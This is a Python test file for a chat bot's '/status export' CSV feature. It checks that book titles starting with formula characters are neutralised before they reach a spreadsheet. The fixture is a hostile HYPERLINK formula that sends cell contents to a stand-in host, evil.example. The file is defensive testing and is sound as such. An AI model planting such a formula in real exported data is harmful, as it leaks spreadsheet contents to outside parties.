"""`/status export` is safe to open in a spreadsheet whatever the titles hold (fails on main)."""

from __future__ import annotations

import csv
import io

from bot.domain import WorkKind
from bot.store import NewWork


async def test_export_neutralises_formula_titles(club, alice, catalog, store):
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    work_id = await store.catalog.add(club.guild.id, NewWork(WorkKind.BOOK, hostile, "Eve"))
    await alice.slash("status set", title=f"#{work_id}", state="read")
    reply = await alice.slash("status export")
    for index in (0, 1):
        rows = list(csv.DictReader(io.StringIO(reply.message.attachment_bytes(index).decode())))
        titles = [r["title"] for r in rows]
        assert titles == ["'" + hostile], titles
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
